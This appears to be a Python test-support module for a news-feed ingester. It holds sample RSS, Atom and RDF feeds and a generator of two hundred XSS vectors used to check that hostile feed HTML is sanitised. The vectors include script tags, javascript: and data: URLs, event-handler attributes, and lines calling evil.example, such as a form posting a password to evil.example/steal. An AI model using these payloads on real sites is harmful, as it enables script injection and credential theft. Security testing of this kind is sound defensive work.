"""What the ingest tests share: feed documents to serve, registering and reading back feeds."""

from __future__ import annotations

import functools
import html
import re
import sys
from html.parser import HTMLParser
from typing import Any

import httpx
from sqlalchemy import func, select
from sqlalchemy.orm import selectinload

from gazette.articles.feed_registry import add_feed
from gazette.articles.fetch import fetch
from gazette.runtime import Runtime
from gazette.store.db import transaction
from gazette.store.models import Article, Feed
from tests.support.feedserver import rss, rss_item

FAST = functools.partial(fetch, timeout=httpx.Timeout(1.0))
MB = 1024 * 1024


def register(runtime: Runtime, url: str, **options: Any) -> int:
    with transaction(runtime.sessions) as session:
        return add_feed(session, url, **options)


def stored(runtime: Runtime) -> list[Article]:
    with runtime.sessions() as session:
        query = select(Article).options(selectinload(Article.topics)).order_by(Article.id)
        return list(session.scalars(query))


def article_count(runtime: Runtime) -> int:
    with runtime.sessions() as session:
        return session.scalar(select(func.count()).select_from(Article)) or 0


def feed_row(runtime: Runtime, feed_id: int) -> Feed:
    with runtime.sessions() as session:
        return session.get_one(Feed, feed_id)


def one_sentence(message: str | None) -> str:
    assert message, "expected a reason"
    assert "\n" not in message
    assert message.endswith("."), message
    assert len(re.findall(r"[.!?](?:\s|$)", message)) == 1, message
    return message


def simple_feed(count: int, host: str = "news.example.org") -> bytes:
    return rss(*(rss_item(n, f"Story {n}", host=host) for n in range(1, count + 1)))


WORDPRESS = """<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"
	xmlns:content="http://purl.org/rss/1.0/modules/content/"
	xmlns:wfw="http://wellformedweb.org/CommentAPI/"
	xmlns:dc="http://purl.org/dc/elements/1.1/"
	xmlns:atom="http://www.w3.org/2005/Atom"
	xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"
	xmlns:slash="http://purl.org/rss/1.0/modules/slash/"
	>
<channel>
	<title>Harbour Notes</title>
	<atom:link href="https://harbour.example.org/feed/" rel="self" type="application/rss+xml" />
	<link>https://harbour.example.org</link>
	<description>Notes from the harbour</description>
	<lastBuildDate>Wed, 18 Nov 2026 10:12:45 +0000</lastBuildDate>
	<language>en-GB</language>
	<sy:updatePeriod>hourly</sy:updatePeriod>
	<sy:updateFrequency>1</sy:updateFrequency>
	<generator>https://wordpress.org/?v=6.7.1</generator>
	<item>
		<title>Tides &#038; Timetables: The &#8220;Spring&#8221; Schedule</title>
		<link>https://harbour.example.org/2026/11/18/tides-timetables/</link>
		<comments>https://harbour.example.org/2026/11/18/tides-timetables/#respond</comments>
		<dc:creator><![CDATA[Mara Lind]]></dc:creator>
		<pubDate>Wed, 18 Nov 2026 10:12:45 +0000</pubDate>
		<category><![CDATA[Transport]]></category>
		<category><![CDATA[Harbour Life]]></category>
		<guid isPermaLink="false">https://harbour.example.org/?p=1042</guid>
		<description><![CDATA[The spring timetable adds two early ferries &#8230; <a class="more-link" href="https://harbour.example.org/2026/11/18/tides-timetables/">Continue reading</a>]]></description>
		<content:encoded><![CDATA[<p>The spring timetable adds <strong>two early ferries</strong> &amp; a late one.</p>
<p style="color:red" onclick="track()">Tickets go on sale on <a href="https://harbour.example.org/tickets/" target="_blank" onmouseover="track()">Monday</a>.</p>
<script>window.track && track('view');</script>
<figure class="wp-block-image"><img src="https://harbour.example.org/wp-content/uploads/ferry.jpg" alt="Ferry" width="640" height="480" /></figure>
]]></content:encoded>
		<wfw:commentRss>https://harbour.example.org/2026/11/18/tides-timetables/feed/</wfw:commentRss>
		<slash:comments>0</slash:comments>
	</item>
	<item>
		<title>Winter Moorings</title>
		<link>https://harbour.example.org/2026/11/10/winter-moorings/</link>
		<dc:creator><![CDATA[Jon Berg]]></dc:creator>
		<pubDate>Tue, 10 Nov 2026 08:00:00 +0100</pubDate>
		<category><![CDATA[Harbour Life]]></category>
		<guid isPermaLink="false">https://harbour.example.org/?p=1037</guid>
		<description><![CDATA[<p>Moorings move to the <em>inner basin</em> from December.</p>]]></description>
	</item>
</channel>
</rss>
"""  # noqa: E501
ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="uk">
  <title>Міські нотатки</title>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <updated>2026-11-21T12:00:00Z</updated>
  <link rel="self" href="https://atom.example.org/feed.atom"/>
  <link href="https://atom.example.org/"/>
  <author><name>Редакція</name></author>
  <entry>
    <title>Нова лінія метро</title>
    <link rel="replies" href="https://atom.example.org/2026/metro#comments"/>
    <link rel="alternate" type="text/html" href="https://atom.example.org/2026/metro"/>
    <id>tag:atom.example.org,2026:metro</id>
    <published>2026-11-20T09:00:00+02:00</published>
    <updated>2026-11-21T12:00:00Z</updated>
    <author><name>Оксана Коваль</name></author>
    <category term="Transport"/>
    <summary>Коротко.</summary>
    <content type="html">&lt;p&gt;Повний &lt;b&gt;текст&lt;/b&gt; &amp;amp; більше.&lt;/p&gt;&lt;iframe src="https://evil.example/"&gt;&lt;/iframe&gt;</content>
  </entry>
  <entry>
    <title type="text">Parks &amp; &lt;shade&gt;</title>
    <link href="https://atom.example.org/2026/parks"/>
    <id>tag:atom.example.org,2026:parks</id>
    <updated>2026-11-19T06:30:00-05:00</updated>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Shade <em>cools</em> streets.</p></div></content>
  </entry>
</feed>
"""  # noqa: E501
ATOM_HTML_TITLE = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>T</title><id>urn:t</id><updated>2026-11-21T12:00:00Z</updated>
  <entry>
    <title type="html">Tom &amp;amp; Jerry &lt;em&gt;say&lt;/em&gt; &amp;quot;hi&amp;quot;</title>
    <link href="https://atom.example.org/tom"/>
    <id>urn:tom</id>
    <updated>2026-11-21T12:00:00Z</updated>
  </entry>
</feed>
"""
RDF = """<?xml version="1.0" encoding="utf-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/"
         xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://rdf.example.org/">
    <title>Institut</title>
    <link>https://rdf.example.org/</link>
    <description>Nachrichten</description>
    <dc:language>de</dc:language>
    <items><rdf:Seq>
      <rdf:li rdf:resource="https://rdf.example.org/eins"/>
      <rdf:li rdf:resource="https://rdf.example.org/zwei"/>
    </rdf:Seq></items>
  </channel>
  <item rdf:about="https://rdf.example.org/eins">
    <title>Erste Nachricht</title>
    <link>https://rdf.example.org/eins</link>
    <description>Die &lt;b&gt;erste&lt;/b&gt; Meldung &amp;amp; mehr.</description>
    <dc:date>2026-11-05T08:00:00+01:00</dc:date>
    <dc:creator>Karl Weber</dc:creator>
    <dc:subject>Wissenschaft</dc:subject>
  </item>
  <item rdf:about="https://rdf.example.org/zwei">
    <title>Zweite Nachricht</title>
    <link>https://rdf.example.org/zwei</link>
    <description>Noch eine.</description>
    <dc:date>2026-11-06T08:00:00Z</dc:date>
  </item>
</rdf:RDF>
"""
GOOD = simple_feed(2, host="good.example.org")


# A feed cut off by a dropped connection or a full disk on the publisher's side.
CUT_IN_HEADER = GOOD[: GOOD.index(b"<description>")]


CUT_IN_ITEM = GOOD[: GOOD.index(b"<pubDate>")]
CUT_AFTER_ITEMS = GOOD[: GOOD.rindex(b"</item>") + len(b"</item>") + 1] + b"<item><title>Thr"
EVENTS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onmouseenter",
    "onanimationstart", "ontoggle", "onpointerdown", "onkeydown", "onkeyup", "oninput",
    "onchange", "onsubmit", "onbegin", "onend", "onwheel", "oncopy", "onpaste",
    "onauxclick", "ondblclick", "ondrag", "onscroll", "onresize", "onbeforeunload",
    "onhashchange", "onpageshow", "onmessage", "onreadystatechange", "ontransitionend",
    "onplay", "oncanplay", "onloadstart", "onshow", "onselect", "oncut", "onsearch",
    "onformdata", "onpointerenter",
]  # fmt: skip
ELEMENTS = [
    ("img", "src=x"), ("body", ""), ("svg", ""), ("div", ""), ("input", "autofocus"),
    ("details", "open"), ("video", "src=x"), ("a", "href=#"), ("p", ""), ("marquee", ""),
]  # fmt: skip
BAD_URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(2)", " javascript:alert(3)",
    "java\tscript:alert(4)", "java&#x09;script:alert(5)", "jav&#x0A;ascript:alert(6)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(7)",
    "&#x6A;avascript:alert(8)", "javascript&colon;alert(9)", "javascript://%0Aalert(10)",
    "vbscript:msgbox(11)", "VBScript:MsgBox(12)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxMyk8L3NjcmlwdD4=",
    "DATA:text/html,<script>alert(14)</script>", "data:image/svg+xml,<svg onload=alert(15)>",
    "livescript:alert(16)",
]  # fmt: skip
URL_HOLDERS = [
    '<a href="{u}">link</a>', "<img src='{u}'>", '<iframe src="{u}"></iframe>',
    '<form action="{u}"><button>go</button></form>', '<object data="{u}"></object>',
    '<embed src="{u}">', '<button formaction="{u}">x</button>', '<a href={u}>bare</a>',
]  # fmt: skip
TAG_PAYLOADS = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>", "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>", "<script>alert(1)//",
    "<script >alert(String.fromCharCode(88,83,83))</script >",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background-image: url(javascript:alert(1))">x</p>',
    "<STYLE>@import 'https://evil.example/x.css';</STYLE>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<IFRAME SRC="javascript:alert(1)"></IFRAME>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<embed src="https://evil.example/x.swf" allowscriptaccess="always">',
    '<form action="https://evil.example/steal" method="post"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://evil.example/">',
    "<svg><script>alert(1)</script></svg>", '<svg><animate onbegin="alert(1)" attributeName=x>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<base href="javascript:alert(1)//">', '<link rel="stylesheet" href="javascript:alert(1)">',
    "<img src=x onerror=alert(1)", '<img """><script>alert(1)</script>">',
    "<img\nsrc=x\nonerror=alert(1)>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<a href=\"https://ok.example/\" onclick='alert(1)'>ok</a>",
    '<a href="https://ok.example/" style="position:fixed;top:0">overlay</a>',
    "&lt;script&gt;alert('entity-escaped text')&lt;/script&gt;",
    '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    "<x onclick=alert(1)>click</x>", '<isindex action="javascript:alert(1)" type=image>',
    '<div onmouseover="alert(1)"\u2028>line separator</div>', "<body onload\x85=alert(1)>",
]  # fmt: skip


def xss_payloads() -> list[str]:
    """Two hundred known XSS vectors, distinct, in many spellings."""
    payloads: list[str] = []
    for i, event in enumerate(EVENTS):
        tag, extra = ELEMENTS[i % len(ELEMENTS)]
        payloads.append(f"<{tag} {extra} {event}=alert({i})>e{i}</{tag}>")
        payloads.append(f'<{tag.upper()} {extra.upper()} {event.upper()}="alert({i})">')
    for url in BAD_URLS:
        for holder in URL_HOLDERS[:5] if url.startswith(("d", "D")) else URL_HOLDERS:
            payloads.append(holder.format(u=url))
    payloads.extend(TAG_PAYLOADS)
    unique = list(dict.fromkeys(payloads))
    assert len(unique) >= 200, len(unique)
    return unique[:200]


PLAIN_TITLE = "Tom & Jerry: \"double\" and 'single' quotes — Київ, 東京"
PLAIN_TEXT = "Tom & Jerry say \"double\" and 'single' — Київ, Львів; 東京と大阪"


class Tags(HTMLParser):
    """Every start tag of a fragment with its attributes (entities already decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {k: v or "" for k, v in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def parse_html(fragment: str) -> list[tuple[str, dict[str, str]]]:
    parser = Tags()
    parser.feed(fragment)
    parser.close()
    return parser.found


def xss_feed(payloads: list[str]) -> bytes:
    items = []
    for n, payload in enumerate(payloads):
        title = f"Item {n} {payload}"
        if n % 2:  # the summary comes from description
            items.append(rss_item(n, title, description=payload))
        else:  # content:encoded wins over description
            body = f"<p>Body {n}</p>{payload}"
            items.append(rss_item(n, title, description="teaser", content=body, cdata=True))
    items.append(
        rss_item(
            9000,
            PLAIN_TITLE,
            content=f"<p>{html.escape(PLAIN_TEXT, quote=False)}</p>",
            categories=("Київ", "東京"),
        )
    )
    return rss(*items, title="Hostile <b>feed</b>")


GAZETTE = [sys.executable, "-m", "gazette"]
GOOD_LINES = [
    {"title": "One", "url": "https://import.example.org/1", "published": "2026-11-02T08:00:00Z"},
    {"title": "Two", "url": "https://import.example.org/2", "published": "2026-11-03T08:00:00Z"},
]
